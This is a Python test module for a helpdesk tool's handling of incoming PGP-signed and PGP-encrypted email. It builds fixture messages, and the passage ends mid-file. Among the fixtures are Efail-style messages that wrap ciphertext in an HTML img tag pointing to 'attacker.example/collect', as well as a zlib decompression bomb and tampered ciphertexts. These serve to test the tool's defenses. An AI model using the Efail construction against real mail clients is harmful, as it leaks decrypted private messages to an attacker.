"""Incoming mail, through the CLI: pgpdesk incoming | article show | retry | log.

Messages are built at test time (mail.py) around real gpg 2.2 and sq 0.27 output, from the
session key fixtures (keys.py) plus two keys of our own that share one user ID. Each message is
built once per run (the Corpus below) and fed to a fresh database per test.

Roles: the helpdesk holds private keys (ed_pw, rsa3072: gpg; ed_plain, rsa4096: sq), customers
sign with theirs; pgpdesk gets only what a test imports.
"""

import base64
import email
import email.policy
import functools
import os
import random
import re

import keys as keyfixtures
import mail
import openpgp
from mail import CRLF
from support import TestFailure, expect, expect_eq, iso

HELPDESK = "Helpdesk <helpdesk@example.com>"
OTHER = "Someone Else <someone.else@example.com>"
SAME_UID = "Same Person <same.person@example.com>"
SAME_PASSPHRASE = "SameUid-passphrase-7Qx$"
DAY = 86400

SIGN_STATUSES = {"good", "bad", "no_public_key", "expired_key", "revoked_key", "signer_mismatch",
                 "weak_algorithm", "partial", "malformed", "none"}
ENC_STATUSES = {"decrypted", "no_private_key", "integrity_failure", "too_large", "malformed",
                "unsupported_algorithm", "partial", "none"}
SIGN_FIELDS = ["success", "comment", "status", "signer_fingerprint", "signer_uid", "signed_at",
               "hash"]
ENC_FIELDS = ["success", "comment", "status", "key_fingerprint", "cipher", "protection"]
ARTICLE_FIELDS = ["id", "direction", "from", "to", "cc", "subject", "message_id", "created_at",
                  "security"]

GOOD = "Good signature"
NO_PRIVATE_KEY = "The private PGP key could not be found."
NO_PUBLIC_KEY = "The public PGP key could not be found."
INVALID = "The PGP signature is invalid."
SHAPE_PARTS = ("This PGP email does not have exactly two body parts for PGP mails as mandated "
               "by RFC 3156.")
SHAPE_SIGNATURE = ("The signature part of this PGP email is missing or has a wrong content type "
                   "according to RFC 3156.")
SHAPE_VERSION = "The first part of this PGP email is not a valid version part as mandated by RFC 3156."
SHAPE_ENCRYPTED = ("The encrypted part of this PGP email has an incorrect MIME type according to "
                   "RFC 3156.")
TS = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ"


def marker(name):
    """A string that occurs only in the plaintext of message `name`."""
    return "MARKER-%s-Zq7" % name.upper().replace("_", "-")


# ============================================================================ the corpus


class Corpus:
    """The keys in a gpg home of our own and every message, built on first use."""

    def __init__(self, session):
        self.k = session.keys
        self.dir = os.path.join(session.root, "inc")
        self.gpg = mail.GpgTool(os.path.join(self.dir, "g"))
        self.sq = mail.SqTool()
        self.memo = {}
        for n in ("ed_pw", "rsa3072", "expired", "revoked"):   # "revoked": v1, not yet revoked
            key = self.k[n]
            self.gpg.import_key(key.path("sec_asc"), key.fingerprint, key.passphrase)
        for n in ("ed_plain", "rsa4096"):
            self.gpg.import_key(self.k[n].path("pub_asc"))
        self._same = None

    def release(self):
        self.gpg.kill_agent()

    # ---------------------------------------------------------------- keys

    def same_uid_keys(self):
        """Two gpg keys with the same user ID: "old" (made 30 days ago) and "new"."""
        if self._same is None:
            old = self.gpg.gen(SAME_UID, SAME_PASSPHRASE, faked_time=keyfixtures.NOW - 30 * DAY)
            new = self.gpg.gen(SAME_UID, SAME_PASSPHRASE)
            out = {}
            for label, fpr in (("old", old), ("new", new)):
                out[label] = {
                    "fpr": fpr,
                    "pub": mail.write(os.path.join(self.dir, "same-%s.pub.asc" % label),
                                      self.gpg.export(fpr)),
                    "sec": mail.write(os.path.join(self.dir, "same-%s.sec.asc" % label),
                                      self.gpg.export(fpr, secret=True)),
                }
            self._same = out
        return self._same

    def addr(self, name):
        return self.k[name].user_ids[0]

    def fpr(self, name):
        return self.k[name].fingerprint

    # ---------------------------------------------------------------- crypto by tool

    def detach_sign(self, data, signer, **kw):
        key = self.k[signer]
        if key.tool == "sq":
            return self.sq.detach_sign(data, key.path("sec_asc"))
        return self.gpg.detach_sign(data, key.fingerprint, **kw)

    def encrypt(self, data, recipients, signer=None, tool="gpg", **kw):
        if tool == "sq":
            return self.sq.encrypt(data, [self.k[r].path("pub_asc") for r in recipients],
                                   signer_file=self.k[signer].path("sec_asc") if signer else None)
        return self.gpg.encrypt(data, [self.k[r].fingerprint for r in recipients],
                                signer=self.k[signer].fingerprint if signer else None, **kw)


_corpora = {}


def corpus(t):
    c = _corpora.get(id(t.session))
    if c is None:
        c = _corpora[id(t.session)] = Corpus(t.session)
    return c


def built(fn):
    """A message builder run once per session: fn(corpus) -> bytes."""
    @functools.wraps(fn)
    def wrapper(c):
        if fn.__name__ not in c.memo:
            c.memo[fn.__name__] = fn(c)
        return c.memo[fn.__name__]
    return wrapper


def incoming_test(fn):
    """Kills the corpus gpg agent when the test ends (it is restarted on demand)."""
    @functools.wraps(fn)
    def wrapper(t):
        try:
            return fn(t)
        finally:
            c = _corpora.get(id(t.session))
            if c is not None:
                c.release()
    return wrapper


# ============================================================================ messages


def body_text(name, extra=""):
    return "Hello helpdesk,\r\n\r\nmy printer is on fire. %s\r\n%s\r\n-- \r\nA customer\r\n" % (
        marker(name), extra)


def msgid(name):
    return "<%s@customer.example>" % name.replace("_", "-")


def signed_message(c, name, signer, frm=None, digest=None, faked_time=None, textmode=False,
                   part=None, extra_headers=()):
    part = part if part is not None else mail.text_part(body_text(name))
    kw = {}
    if c.k[signer].tool == "gpg":
        kw = dict(digest=digest, faked_time=faked_time, textmode=textmode)
    sig = c.detach_sign(part, signer, **kw)
    micalg = "pgp-%s" % (digest or "sha256").lower()
    hs = mail.headers(frm or c.addr(signer), HELPDESK, "Signed %s" % name, msgid(name),
                      extra=extra_headers)
    return mail.message(hs, mail.signed(part, sig, micalg=micalg))


def encrypted_message(c, name, recipients, signer=None, tool="gpg", frm=None, payload=None,
                      to=HELPDESK, subject=None, **kw):
    payload = payload if payload is not None else mail.text_part(body_text(name))
    ct = c.encrypt(payload, recipients, signer=signer, tool=tool, **kw)
    hs = mail.headers(frm or (c.addr(signer) if signer else OTHER), to,
                      subject or "Encrypted %s" % name, msgid(name))
    return mail.message(hs, mail.encrypted(ct))


def inline_message(c, name, text, frm=None):
    hs = mail.headers(frm or OTHER, HELPDESK, "Inline %s" % name, msgid(name))
    return mail.message(hs, mail.text_part(text))


# ---- multipart/signed


@built
def m_signed_gpg_ed(c):
    return signed_message(c, "signed_gpg_ed", "ed_pw")


@built
def m_signed_gpg_rsa(c):
    return signed_message(c, "signed_gpg_rsa", "rsa3072")


@built
def m_signed_sq_ed(c):
    return signed_message(c, "signed_sq_ed", "ed_plain")


@built
def m_signed_sq_rsa(c):
    return signed_message(c, "signed_sq_rsa", "rsa4096")


@built
def m_signed_textmode(c):
    return signed_message(c, "signed_textmode", "ed_pw", textmode=True)


@built
def m_signed_expired(c):
    return signed_message(c, "signed_expired", "expired", faked_time=c.k["expired"].created + 3600)


@built
def m_signed_revoked(c):
    return signed_message(c, "signed_revoked", "revoked")


@built
def m_signed_sha1(c):
    return signed_message(c, "signed_sha1", "rsa3072", digest="SHA1")


@built
def m_signed_other_from(c):
    return signed_message(c, "signed_other_from", "ed_pw", frm=OTHER)


@built
def m_signed_two_from(c):
    return signed_message(c, "signed_two_from", "ed_pw", extra_headers=[("From", OTHER)])


@built
def m_signed_same_uid_old(c):
    k = c.same_uid_keys()["old"]
    part = mail.text_part(body_text("signed_same_uid_old"))
    sig = c.gpg.detach_sign(part, k["fpr"])
    hs = mail.headers(SAME_UID, HELPDESK, "Signed by the older key", msgid("signed_same_uid_old"))
    return mail.message(hs, mail.signed(part, sig))


def rfc2046_parts(c):
    """The first part ends in blank lines: "...\\r\\n\\r\\n" then the delimiter's own CRLF."""
    part = mail.text_part("Signature block follows %s\r\n\r\n" % marker("rfc2046"))
    expect(part.endswith(b"\r\n\r\n"), "the test part should end with a blank line")
    return part, c.gpg.detach_sign(part, c.fpr("ed_pw"))


@built
def m_rfc2046_blank_lines(c):
    part, sig = rfc2046_parts(c)
    hs = mail.headers(c.addr("ed_pw"), HELPDESK, "Trailing blank lines", msgid("rfc2046"))
    return mail.message(hs, mail.signed(part, sig))


@built
def m_rfc2046_extra_blank_line(c):
    part, sig = rfc2046_parts(c)
    hs = mail.headers(c.addr("ed_pw"), HELPDESK, "One blank line more", msgid("rfc2046x"))
    # the signed part as sent gains one more CRLF: the signed bytes no longer match
    return mail.message(hs, mail.signed(part + CRLF, sig))


# ---- inline


@built
def m_inline_clearsigned_gpg(c):
    return inline_message(c, "inline_clearsigned_gpg",
                          c.gpg.sign(body_text("inline_clearsigned_gpg"), c.fpr("ed_pw"),
                                     clear=True), frm=c.addr("ed_pw"))


@built
def m_inline_clearsigned_sq(c):
    return inline_message(c, "inline_clearsigned_sq",
                          c.sq.sign(body_text("inline_clearsigned_sq"),
                                    c.k["ed_plain"].path("sec_asc"), clear=True),
                          frm=c.addr("ed_plain"))


@built
def m_inline_signed_gpg(c):
    return inline_message(c, "inline_signed_gpg",
                          c.gpg.sign(body_text("inline_signed_gpg"), c.fpr("rsa3072")),
                          frm=c.addr("rsa3072"))


@built
def m_inline_signed_sq(c):
    return inline_message(c, "inline_signed_sq",
                          c.sq.sign(body_text("inline_signed_sq"), c.k["rsa4096"].path("sec_asc")),
                          frm=c.addr("rsa4096"))


@built
def m_inline_clearsigned_tampered(c):
    text = c.gpg.sign(body_text("inline_clearsigned_tampered"), c.fpr("ed_pw"), clear=True)
    tampered = text.replace(b"on fire", b"on ice!")
    expect(tampered != text, "tampering failed")
    return inline_message(c, "inline_clearsigned_tampered", tampered, frm=c.addr("ed_pw"))


@built
def m_inline_encrypted_gpg(c):
    return inline_message(c, "inline_encrypted_gpg",
                          c.encrypt(body_text("inline_encrypted_gpg"), ["ed_pw"]))


@built
def m_inline_encrypted_sq(c):
    return inline_message(c, "inline_encrypted_sq",
                          c.encrypt(body_text("inline_encrypted_sq"), ["ed_plain"], tool="sq"))


@built
def m_inline_sign_encrypt_gpg(c):
    return inline_message(c, "inline_sign_encrypt_gpg",
                          c.encrypt(body_text("inline_sign_encrypt_gpg"), ["rsa3072"],
                                    signer="ed_pw"), frm=c.addr("ed_pw"))


@built
def m_inline_encrypted_text_around(c):
    ct = c.encrypt(body_text("inline_encrypted_text_around"), ["ed_pw"])
    return inline_message(c, "inline_encrypted_text_around",
                          b"Hi, please read this:\r\n\r\n" + ct + b"\r\nThanks!\r\n")


@built
def m_inline_clearsigned_text_around(c):
    cs = c.gpg.sign(body_text("inline_clearsigned_text_around"), c.fpr("ed_pw"), clear=True)
    return inline_message(c, "inline_clearsigned_text_around",
                          b"Added by a forwarder: not signed\r\n\r\n" + cs, frm=c.addr("ed_pw"))


@built
def m_inline_two_ciphertexts(c):
    a = c.encrypt(body_text("inline_two_ciphertexts"), ["ed_pw"])
    b = c.encrypt(body_text("inline_two_ciphertexts", "second block"), ["ed_pw"])
    return inline_message(c, "inline_two_ciphertexts", a + b"\r\n" + b)


# ---- multipart/encrypted


@built
def m_enc_gpg_ed(c):
    return encrypted_message(c, "enc_gpg_ed", ["ed_pw"])


@built
def m_enc_gpg_rsa(c):
    return encrypted_message(c, "enc_gpg_rsa", ["rsa3072"])


@built
def m_enc_sq_ed(c):
    return encrypted_message(c, "enc_sq_ed", ["ed_plain"], tool="sq")


@built
def m_enc_sq_rsa(c):
    return encrypted_message(c, "enc_sq_rsa", ["rsa4096"], tool="sq")


@built
def m_nested_gpg(c):
    """Sign (multipart/signed, ed_pw), then encrypt that entity (to rsa3072)."""
    part = mail.text_part(body_text("nested_gpg"))
    inner = mail.signed(part, c.detach_sign(part, "ed_pw"))
    return encrypted_message(c, "nested_gpg", ["rsa3072"], frm=c.addr("ed_pw"), payload=inner)


@built
def m_nested_sq(c):
    part = mail.text_part(body_text("nested_sq"))
    inner = mail.signed(part, c.detach_sign(part, "ed_plain"))
    return encrypted_message(c, "nested_sq", ["rsa4096"], tool="sq", frm=c.addr("ed_plain"),
                             payload=inner)


@built
def m_onepass_gpg(c):
    return encrypted_message(c, "onepass_gpg", ["rsa3072"], signer="ed_pw")


@built
def m_onepass_sq(c):
    return encrypted_message(c, "onepass_sq", ["rsa4096"], signer="ed_plain", tool="sq")


@built
def m_enc_bcc(c):
    """To someone else; the helpdesk key (ed_pw) is the second recipient, named nowhere."""
    return encrypted_message(c, "enc_bcc", ["rsa4096", "ed_pw"], to=OTHER)


@built
def m_enc_same_uid_old(c):
    k = c.same_uid_keys()["old"]
    ct = c.gpg.encrypt(mail.text_part(body_text("enc_same_uid_old")), [k["fpr"]])
    hs = mail.headers(OTHER, SAME_UID, "Encrypted to the older key", msgid("enc_same_uid_old"))
    return mail.message(hs, mail.encrypted(ct))


@built
def m_enc_no_mdc(c):
    ct = c.encrypt(body_text("enc_no_mdc"), ["ed_pw"],
                   extra=["--rfc2440", "--cipher-algo", "AES256"])
    tags = [tag for tag, _ in openpgp.packets(ct)]
    expect(9 in tags and 18 not in tags,
           "gpg --rfc2440 should make a SED packet (tag 9) without MDC; packets: %s" % tags)
    return inline_message(c, "enc_no_mdc", ct)


def flip_in_the_middle(binary):
    """binary with one byte flipped near its middle, inside a packet body (the packet layout,
    tags and lengths, is unchanged)."""
    shape = [(tag, len(body)) for tag, body in openpgp.packets(binary)]
    for pos in range(len(binary) // 2, len(binary)):
        out = bytearray(binary)
        out[pos] ^= 0x01
        try:
            if [(tag, len(body)) for tag, body in openpgp.packets(bytes(out))] == shape:
                return bytes(out)
        except (ValueError, IndexError):
            pass
    raise TestFailure("could not flip a byte inside a packet body")


@built
def m_enc_flipped(c):
    m = marker("enc_flipped")
    lines = "".join("%s line %05d: the quick brown fox jumps over the lazy dog\r\n" % (m, i)
                    for i in range(2800))
    plain = mail.text_part(lines)
    expect(len(plain) > 200 * 1024, "the plaintext should be over 200 KB")
    ct = c.encrypt(plain, ["ed_pw"], armor=False, extra=["--compress-algo", "none"])
    expect(len(ct) > 200 * 1024, "the ciphertext should be over 200 KB (%d)" % len(ct))
    hs = mail.headers(OTHER, HELPDESK, "Flipped", msgid("enc_flipped"))
    return mail.message(hs, mail.encrypted(mail.armor(flip_in_the_middle(ct))))


@built
def m_enc_bomb(c):
    ct = c.encrypt(b"\0" * (200 * 1024 * 1024), ["ed_pw"],  # over the 128 MiB default cap
                   extra=["--compress-algo", "zlib", "-z", "9"])
    expect(len(ct) < 1024 * 1024, "the compressed bomb should be small (%d bytes)" % len(ct))
    hs = mail.headers(OTHER, HELPDESK, "Zeros", msgid("enc_bomb"))
    return mail.message(hs, mail.encrypted(ct))


def _packet(tag, body):
    n = len(body)
    if n < 192:
        head = bytes([n])
    elif n < 8384:
        n -= 192
        head = bytes([(n >> 8) + 192, n & 0xFF])
    else:
        head = b"\xff" + n.to_bytes(4, "big")
    return bytes([0xC0 | tag]) + head + body


def _mpi(n):
    return n.bit_length().to_bytes(2, "big") + n.to_bytes((n.bit_length() + 7) // 8, "big")


@built
def m_enc_unknown_cipher(c):
    """A PKESK to rsa3072's encryption subkey (RSA, PKCS#1 v1.5, done here) whose session key
    names symmetric algorithm 99 (none exists), then a SEIPD packet of random bytes."""
    cert = openpgp.certs(c.k["rsa3072"].read("pub_pgp"))[0]
    sub = [k for k in cert.subkeys if k.algo == 1][0]
    n_b, p = openpgp._mpi(sub.body, 6)
    e_b, _ = openpgp._mpi(sub.body, p)
    n, e, size = int.from_bytes(n_b, "big"), int.from_bytes(e_b, "big"), len(n_b)
    rnd = random.Random(99)
    key = bytes(rnd.randrange(256) for _ in range(32))
    m = bytes([99]) + key + (sum(key) & 0xFFFF).to_bytes(2, "big")
    ps = bytes(rnd.randrange(1, 256) for _ in range(size - 3 - len(m)))
    em = int.from_bytes(b"\x00\x02" + ps + b"\x00" + m, "big")
    pkesk = b"\x03" + bytes.fromhex(sub.keyid) + b"\x01" + _mpi(pow(em, e, n))
    seipd = b"\x01" + bytes(rnd.randrange(256) for _ in range(200))
    ct = mail.armor(_packet(1, pkesk) + _packet(18, seipd))
    hs = mail.headers(OTHER, HELPDESK, "Unknown cipher", msgid("enc_unknown_cipher"))
    return mail.message(hs, mail.encrypted(ct))


@built
def m_enc_protected_headers(c):
    payload = mail.entity([("Content-Type", 'text/plain; charset="utf-8"; protected-headers="v1"'),
                           ("Subject", "Real subject"),
                           ("From", OTHER),
                           ("To", HELPDESK)],
                          body_text("enc_protected_headers"))
    return encrypted_message(c, "enc_protected_headers", ["ed_pw"], payload=payload, subject="...")


@built
def m_efail(c):
    """Efail direct exfiltration: the victim's multipart/encrypted between two HTML parts."""
    enc = mail.encrypted(c.encrypt(mail.text_part(body_text("efail")), ["ed_pw"]))
    html = 'text/html; charset="utf-8"'
    wrapper = mail.multipart("mixed", [
        mail.text_part('<html><body><img src="http://attacker.example/collect?', ctype=html,
                       cte="7bit"),
        enc,
        mail.text_part('"></body></html>', ctype=html, cte="7bit"),
    ], "efail-b0undary")
    return mail.message(mail.headers(OTHER, HELPDESK, "Efail", msgid("efail")), wrapper)


@built
def m_efail_inline(c):
    """Efail with inline PGP: the armored ciphertext as a text/plain part between HTML parts."""
    html = 'text/html; charset="utf-8"'
    wrapper = mail.multipart("mixed", [
        mail.text_part('<html><body><img src="http://attacker.example/collect?', ctype=html,
                       cte="7bit"),
        mail.text_part(c.encrypt(body_text("efail_inline"), ["ed_pw"]), cte="7bit"),
        mail.text_part('"></body></html>', ctype=html, cte="7bit"),
    ], "efail-b0undary")
    return mail.message(mail.headers(OTHER, HELPDESK, "Efail", msgid("efail_inline")), wrapper)


@built
def m_two_encrypted_parts(c):
    parts = [mail.encrypted(c.encrypt(mail.text_part(body_text("two_encrypted_parts", str(i))),
                                      ["ed_pw"]), boundary="enc-%d" % i) for i in (1, 2)]
    return mail.message(mail.headers(OTHER, HELPDESK, "Two", msgid("two_encrypted_parts")),
                        mail.multipart("mixed", parts, "two-b0undary"))


def attachment(data, filename, ctype="application/octet-stream"):
    b64 = base64.encodebytes(data)
    return mail.entity([("Content-Type", '%s; name="%s"' % (ctype, filename)),
                        ("Content-Disposition", 'attachment; filename="%s"' % filename),
                        ("Content-Transfer-Encoding", "base64")], b64)


@built
def m_encrypted_file_attachment(c):
    """A plain mail with an attached file encrypted by gpg (binary): notes.txt.gpg."""
    ct = c.encrypt(body_text("encrypted_file_attachment"), ["ed_pw"], armor=False)
    body = mail.multipart("mixed", [mail.text_part("The notes are attached, encrypted.\r\n"),
                                    attachment(ct, "notes.txt.gpg")], "att-b0undary")
    return mail.message(mail.headers(OTHER, HELPDESK, "Attachment", msgid("attachment")), body)


@built
def m_public_key_attachment(c):
    """A plain mail with the sender's public key attached as ed_pw.asc (not a message)."""
    body = mail.multipart("mixed", [
        mail.text_part("My key is attached.\r\n"),
        mail.entity([("Content-Type", 'application/pgp-keys; name="ed_pw.asc"'),
                     ("Content-Disposition", 'attachment; filename="ed_pw.asc"')],
                    c.k["ed_pw"].read("pub_asc"))], "key-b0undary")
    return mail.message(mail.headers(c.addr("ed_pw"), HELPDESK, "My key", msgid("keyatt")), body)


@built
def m_forwarded_signed(c):
    inner = signed_message(c, "forwarded_signed", "ed_pw")
    outer = mail.multipart("mixed", [
        mail.text_part("FYI, see the forwarded message below.\r\n"),
        mail.entity([("Content-Type", "message/rfc822"), ("Content-Disposition", "inline")],
                    inner),
    ], "fwd-b0undary")
    return mail.message(mail.headers(c.addr("ed_pw"), HELPDESK, "Fwd: signed",
                                     msgid("forwarded")), outer)


# ============================================================================ checks


def all_passphrases(t):
    return [p for p in t.keys.passphrases() if p] + [SAME_PASSPHRASE]


def check_no_passphrase(t, r):
    for p in all_passphrases(t):
        expect(p not in r.out and p not in r.err, "output contains a passphrase (%s...)" % p[:6], r)


def check_article(a, r):
    """The article object's shape and the invariants of its security result."""
    expect(isinstance(a, dict), "expected a JSON article object", r)
    missing = [f for f in ARTICLE_FIELDS if f not in a]
    expect(not missing, "the article lacks %s" % missing, r)
    expect(isinstance(a["id"], int) and a["id"] > 0, "id should be a positive integer", r)
    expect_eq(a["direction"], "in", "direction", r)
    for f in ("from", "to", "cc", "subject", "message_id"):
        expect(a[f] is None or isinstance(a[f], str), "%s should be null or a string" % f, r)
    expect(isinstance(a["created_at"], str) and re.fullmatch(TS, a["created_at"]),
           "created_at should be ISO 8601 UTC: %r" % a["created_at"], r)
    sec = a["security"]
    expect(isinstance(sec, dict), "security should be an object", r)
    expect_eq(sec.get("type"), "PGP", "security.type", r)
    for layer, fields, statuses, ok in (("sign", SIGN_FIELDS, SIGN_STATUSES, "good"),
                                        ("encryption", ENC_FIELDS, ENC_STATUSES, "decrypted")):
        obj = sec.get(layer)
        expect(isinstance(obj, dict), "security.%s should be an object" % layer, r)
        missing = [f for f in fields if f not in obj]
        expect(not missing, "security.%s lacks %s" % (layer, missing), r)
        expect(obj["status"] in statuses, "security.%s.status %r is not one of the contract's"
               % (layer, obj["status"]), r)
        expect(obj["success"] is (obj["status"] == ok),
               "security.%s.success should be %s for status %r"
               % (layer, obj["status"] == ok, obj["status"]), r)
        expect(obj["comment"] is None or isinstance(obj["comment"], str),
               "security.%s.comment should be null or a string" % layer, r)
    if sec["sign"]["signed_at"] is not None:
        expect(re.fullmatch(TS, str(sec["sign"]["signed_at"])), "signed_at should be ISO 8601", r)


def incoming(t, data, timeout=120, env=None):
    """incoming --json on data (stdin): exit 0, nothing on stderr, no passphrase, a well-formed
    article. Returns (article, result)."""
    r = t.run("incoming", "--json", stdin=data, timeout=timeout, env=env)
    expect(r.rc == 0, "incoming: expected exit 0, got %s" % r.rc, r)
    check_no_passphrase(t, r)
    expect(r.errb == b"", "incoming printed to stderr (librnp or GMime diagnostics?)", r)
    a = r.json()
    check_article(a, r)
    return a, r


def sign_of(a):
    return a["security"]["sign"]


def enc_of(a):
    return a["security"]["encryption"]


def expect_sign(a, r, status, comment=None, signer=None, uid=None):
    s = sign_of(a)
    expect_eq(s["status"], status, "security.sign.status", r)
    if comment is not None:
        expect_eq(s["comment"], comment, "security.sign.comment", r)
    if signer is not None:
        expect_eq(s["signer_fingerprint"], signer, "security.sign.signer_fingerprint", r)
    if uid is not None:
        expect_eq(s["signer_uid"], uid, "security.sign.signer_uid", r)


def expect_enc(a, r, status, comment=None, key=None):
    e = enc_of(a)
    expect_eq(e["status"], status, "security.encryption.status", r)
    if comment is not None:
        expect_eq(e["comment"], comment, "security.encryption.comment", r)
    if key is not None:
        expect_eq(e["key_fingerprint"], key, "security.encryption.key_fingerprint", r)


def show(t, article_id, how):
    return t.ok("article", "show", str(article_id), how)


def visible(data):
    """The bytes of a MIME message plus every part's transfer-decoded payload (so plaintext in
    a base64 attachment is found too)."""
    out = [data]
    try:
        msg = email.message_from_bytes(data, policy=email.policy.compat32)
        for part in msg.walk():
            if part.is_multipart():
                continue
            payload = part.get_payload(decode=True)
            if payload:
                out.append(payload)
    except Exception:  # noqa: BLE001 - unparsable: the raw bytes are all there is
        pass
    return b"\n".join(out)


def expect_mime_contains(t, a, text):
    r = show(t, a["id"], "--mime")
    expect(text.encode() in visible(r.outb), "article show --mime should contain %r" % text, r)
    return r


def expect_not_revealed(t, a, text, db=True):
    """Neither the processed view (decoded), the JSON, the log nor the database files hold
    text."""
    needle = text.encode()
    r = show(t, a["id"], "--mime")
    expect(needle not in visible(r.outb), "article show --mime reveals the plaintext %r" % text, r)
    r = show(t, a["id"], "--json")
    expect(needle not in r.outb, "article show --json reveals the plaintext", r)
    r = t.ok("log", "--json")
    expect(needle not in r.outb, "log --json reveals the plaintext", r)
    if db:
        for p in t.db_files():
            with open(p, "rb") as f:
                expect(needle not in f.read(), "%s holds the plaintext %r" % (p, text))


def helpdesk(t, *names):
    """Imports the private keys of fixture keys (the helpdesk's own)."""
    for n in names:
        key = t.keys[n]
        t.import_key(key, "sec_asc", passphrase=key.passphrase)


def customers(t, *names):
    for n in names:
        t.import_key(t.keys[n], "pub_asc")


def retry(t, article_id):
    r = t.run("retry", str(article_id), "--json")
    expect(r.rc == 0, "retry: expected exit 0, got %s" % r.rc, r)
    expect(r.errb == b"", "retry printed to stderr", r)
    check_no_passphrase(t, r)
    a = r.json()
    check_article(a, r)
    expect(isinstance(a.get("improved"), bool), "retry --json should have a boolean 'improved'", r)
    return a, r


# ============================================================================ signatures


def _good_signed(t, build, signer):
    c = corpus(t)
    msg = build(c)
    customers(t, signer)
    a, r = incoming(t, msg)
    key = t.keys[signer]
    expect_sign(a, r, "good", GOOD, signer=key.fingerprint, uid=key.user_ids[0])
    s = sign_of(a)
    expect(isinstance(s["hash"], str) and s["hash"].upper().startswith("SHA"),
           "hash should name a SHA-2 hash: %r" % s["hash"], r)
    expect(isinstance(s["signed_at"], str), "signed_at should be set", r)
    expect_enc(a, r, "none")
    expect_eq(a["subject"], "Signed %s" % build.__name__[2:], "subject", r)
    expect_eq(a["message_id"], msgid(build.__name__[2:]).strip("<>"), "message_id", r)
    expect(key.emails[0] in (a["from"] or ""), "from should hold the sender address", r)
    expect_mime_contains(t, a, marker(build.__name__[2:]))
    return a


@incoming_test
def test_signed_gpg_ed25519_good(t):
    _good_signed(t, m_signed_gpg_ed, "ed_pw")


@incoming_test
def test_signed_gpg_rsa_good(t):
    _good_signed(t, m_signed_gpg_rsa, "rsa3072")


@incoming_test
def test_signed_sq_ed25519_good(t):
    _good_signed(t, m_signed_sq_ed, "ed_plain")


@incoming_test
def test_signed_sq_rsa_good(t):
    _good_signed(t, m_signed_sq_rsa, "rsa4096")


@incoming_test
def test_signed_textmode_signature_good(t):
    _good_signed(t, m_signed_textmode, "ed_pw")


@incoming_test
def test_signed_stored_with_lf_line_endings_good(t):
    """An MDA that stores mail with LF endings: the signed part is still checked over CRLF."""
    msg = mail.lf(m_signed_gpg_ed(corpus(t)))
    customers(t, "ed_pw")
    a, r = incoming(t, msg)
    expect_sign(a, r, "good", GOOD, signer=t.keys["ed_pw"].fingerprint)


@incoming_test
def test_signed_from_address_in_other_case_good(t):
    """Addresses compare case-insensitively: From ED.Protected@Example.COM is the key's."""
    msg = m_signed_gpg_ed(corpus(t)).replace(b"<ed.protected@example.com>",
                                             b"<ED.Protected@Example.COM>", 1)
    customers(t, "ed_pw")
    a, r = incoming(t, msg)
    expect_sign(a, r, "good", GOOD, signer=t.keys["ed_pw"].fingerprint)


@built
def m_signed_alternative(c):
    """Thunderbird-like: a signed multipart/mixed (multipart/alternative + attachment) whose
    inner boundaries start with the outer boundary."""
    outer = "=-=sig"
    alt = mail.multipart("alternative", [
        mail.text_part(body_text("signed_alternative"), cte="quoted-printable"),
        mail.text_part("<p>%s</p>\r\n" % marker("signed_alternative"),
                       ctype='text/html; charset="utf-8"', cte="7bit"),
    ], outer + "-alt")
    mixed = mail.multipart("mixed", [alt, attachment(b"\x00\x01binary\xff" * 50, "data.bin")],
                           outer + "-mixed")
    sig = c.detach_sign(mixed, "ed_plain")
    hs = mail.headers(c.addr("ed_plain"), HELPDESK, "Signed signed_alternative",
                      msgid("signed_alternative"))
    return mail.message(hs, mail.signed(mixed, sig, boundary=outer))


@incoming_test
def test_signed_alternative_with_attachment_and_prefix_boundaries_good(t):
    _good_signed(t, m_signed_alternative, "ed_plain")


@incoming_test
def test_signed_tampered_body_bad(t):
    msg = m_signed_gpg_ed(corpus(t)).replace(b"on fire", b"on ice!")
    customers(t, "ed_pw")
    a, r = incoming(t, msg)
    expect_sign(a, r, "bad", INVALID)
    expect_enc(a, r, "none")


@incoming_test
def test_signed_no_public_key_then_retry_good(t):
    c = corpus(t)
    a, r = incoming(t, m_signed_gpg_ed(c))
    expect_sign(a, r, "no_public_key", NO_PUBLIC_KEY)
    b, r = retry(t, a["id"])
    expect_eq(b["improved"], False, "improved (no key imported yet)", r)
    expect_sign(b, r, "no_public_key")
    customers(t, "ed_pw")
    b, r = retry(t, a["id"])
    expect_eq(b["improved"], True, "improved", r)
    expect_eq(b["id"], a["id"], "the retried article id", r)
    expect_sign(b, r, "good", GOOD, signer=t.keys["ed_pw"].fingerprint)
    r = show(t, a["id"], "--json")
    expect_eq(r.json()["security"]["sign"]["status"], "good", "stored sign status after retry", r)
    b, r = retry(t, a["id"])
    expect_eq(b["improved"], False, "improved (a second retry)", r)
    expect_sign(b, r, "good")


@incoming_test
def test_signed_by_key_expired_since_expired_key(t):
    c = corpus(t)
    key = t.keys["expired"]
    customers(t, "expired")
    a, r = incoming(t, m_signed_expired(c))
    expect_sign(a, r, "expired_key", signer=key.fingerprint)
    expect_eq(sign_of(a)["signed_at"], iso(key.created + 3600), "signed_at", r)


@incoming_test
def test_signed_by_revoked_key_revoked_key(t):
    c = corpus(t)
    t.import_key(t.keys["revoked"], "pub_asc_v2")
    a, r = incoming(t, m_signed_revoked(c))
    expect_sign(a, r, "revoked_key", signer=t.keys["revoked"].fingerprint)


@incoming_test
def test_signed_from_another_address_signer_mismatch(t):
    c = corpus(t)
    customers(t, "ed_pw")
    a, r = incoming(t, m_signed_other_from(c))
    expect_sign(a, r, "signer_mismatch", signer=t.keys["ed_pw"].fingerprint)


@incoming_test
def test_signed_two_from_headers_signer_mismatch(t):
    c = corpus(t)
    customers(t, "ed_pw")
    a, r = incoming(t, m_signed_two_from(c))
    expect_sign(a, r, "signer_mismatch", signer=t.keys["ed_pw"].fingerprint)


@incoming_test
def test_signed_sha1_weak_algorithm(t):
    c = corpus(t)
    customers(t, "rsa3072")
    a, r = incoming(t, m_signed_sha1(c))
    expect_sign(a, r, "weak_algorithm", signer=t.keys["rsa3072"].fingerprint)
    expect_eq(sign_of(a)["hash"], "SHA1", "hash", r)


@incoming_test
def test_rfc2046_part_ending_in_blank_lines_good(t):
    customers(t, "ed_pw")
    a, r = incoming(t, m_rfc2046_blank_lines(corpus(t)))
    expect_sign(a, r, "good", GOOD)
    expect_mime_contains(t, a, marker("rfc2046"))


@incoming_test
def test_rfc2046_extra_blank_line_bad(t):
    customers(t, "ed_pw")
    a, r = incoming(t, m_rfc2046_extra_blank_line(corpus(t)))
    expect_sign(a, r, "bad", INVALID)


@incoming_test
